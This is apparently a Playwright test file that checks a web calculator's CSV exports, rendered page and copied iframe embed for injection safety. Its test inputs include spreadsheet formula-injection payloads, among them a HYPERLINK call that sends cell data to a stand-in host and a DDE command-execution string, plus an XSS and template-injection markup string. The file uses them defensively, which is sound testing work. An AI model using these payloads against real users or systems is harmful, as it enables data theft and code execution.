"""What readers carry away holds their own words as words: for spreadsheets, frames and links."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.serving import Site
from tests.whole.questions import address, fill_example

RULE = "xj_premium_budget"
NAME = f"form[data-calculator={RULE}] [name='claims[0].enterprise']"
AMOUNT = f"form[data-calculator={RULE}] [name='claims[0].amount_before_cap']"
FORMULAS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"点")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]
MARKUP = "\"'><img src=x onerror=pwned=1><script>pwned=1</script>{{7*7}}]]>"
PATIENCE = 60000


@pytest.fixture
def tab(chromium: Browser, served: Site) -> Iterator[Page]:
    """The page of a calculator that takes a free text."""
    context = chromium.new_context(
        locale="zh-CN", permissions=["clipboard-read", "clipboard-write"]
    )
    page = context.new_page()
    page.goto(served.url(address(RULE)))
    fill_example(page, RULE)
    yield page
    context.close()


def compute(tab: Page, name: str) -> None:
    """Let the text stand in a result."""
    tab.fill(NAME, name)
    tab.fill(AMOUNT, "1")
    result = tab.locator(f"#{RULE} [data-result]")
    expect(result).to_contain_text(name[:4], timeout=PATIENCE)


def saved(tab: Page, kind: str) -> str:
    with tab.expect_download() as download:
        tab.locator(f"#{RULE} [data-share={kind}]").click()
    return download.value.path().read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("name", [*FORMULAS, MARKUP])
def test_no_cell_of_a_table_is_a_formula(tab: Page, name: str) -> None:
    compute(tab, name)
    cells = [cell for row in csv.reader(io.StringIO(saved(tab, "csv"))) for cell in row]
    assert [cell for cell in cells if cell.lstrip("'") == name]
    for cell in cells:
        assert not re.match(r"[=+\-@\t\r]", cell) or re.fullmatch(r"-?[\d.]+", cell), cell


def test_markup_stays_text_on_the_page_and_in_what_is_copied(tab: Page) -> None:
    compute(tab, MARKUP)
    assert tab.locator("img[src=x], x-pwned").count() == 0
    assert tab.evaluate("'pwned' in window") is False
    tab.bring_to_front()  # only a page in front may write to the clipboard
    tab.locator(f"#{RULE} [data-share=embed]").click()
    expect(tab.locator(f"#{RULE} [data-share-status]")).to_contain_text("已复制", timeout=PATIENCE)
    frames = Frames()
    frames.feed(tab.evaluate("navigator.clipboard.readText()"))
    (frame,) = frames.found
    assert set(frame) == {"src", "title", "width", "height", "loading"}
    # The link brings the same text back, as text.
    tab.goto(frame["src"])
    expect(tab.locator(NAME)).to_have_value(MARKUP, timeout=PATIENCE)
    assert tab.evaluate("'pwned' in window") is False


class Frames(HTMLParser):
    """The elements of what a reader pastes into another site."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag == "iframe"
        self.found.append(dict(attrs))
